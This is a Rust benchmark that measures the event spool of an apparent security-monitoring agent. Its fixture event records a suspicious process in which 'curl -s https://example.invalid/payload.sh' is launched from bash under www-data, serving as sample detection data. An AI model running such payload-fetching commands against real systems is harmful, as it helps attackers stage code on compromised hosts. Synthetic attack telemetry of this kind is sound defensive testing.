//! Spool throughput: append (one fsync per batch of 500), then read and acknowledge; by
//! reference (read back from disk) and by value (read back from memory).
#![allow(clippy::unwrap_used)] // a benchmark aborts loudly on any failure

use canh_agent::spool::{Spool, SpoolConfig};
use canh_core::Event;
use criterion::{Criterion, Throughput, criterion_group, criterion_main};

fn process_event(i: u64) -> Event {
    let mut e = Event::new(chrono::Utc::now());
    e.set("event.module", "canh_agent");
    e.set("event.dataset", "process");
    e.set("event.category", serde_json::json!(["process"]));
    e.set("event.type", serde_json::json!(["start"]));
    e.set("host.name", "bench-host");
    e.set("process.pid", i);
    e.set("process.executable", "/usr/bin/curl");
    e.set(
        "process.command_line",
        "curl -s https://example.invalid/payload.sh",
    );
    e.set("process.parent.executable", "/bin/bash");
    e.set("user.name", "www-data");
    e.set(
        "process.hash.sha256",
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    );
    e
}

fn bench(c: &mut Criterion) {
    let batch: Vec<Event> = (0..500).map(process_event).collect();
    let mut g = c.benchmark_group("spool");
    g.throughput(Throughput::Elements(batch.len() as u64));
    g.sample_size(20);
    g.bench_function("append_read_ack_batch_500", |b| {
        let dir = tempfile::tempdir().unwrap();
        let mut spool = Spool::open(dir.path(), SpoolConfig::default()).unwrap();
        b.iter(|| {
            let r = spool.append(&batch).unwrap();
            let read = spool.read(500).unwrap();
            assert_eq!(read.len(), 500);
            spool.ack(r.end - 1).unwrap();
        });
    });
    // The agent's own path: events handed over by value are read back from memory, not
    // parsed from disk (the clone of the batch is part of the measured time).
    g.bench_function("append_owned_read_ack_batch_500", |b| {
        let dir = tempfile::tempdir().unwrap();
        let mut spool = Spool::open(dir.path(), SpoolConfig::default()).unwrap();
        b.iter(|| {
            let r = spool.append_owned(batch.clone()).unwrap();
            let read = spool.read(500).unwrap();
            assert_eq!(read.len(), 500);
            spool.ack(r.end - 1).unwrap();
        });
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
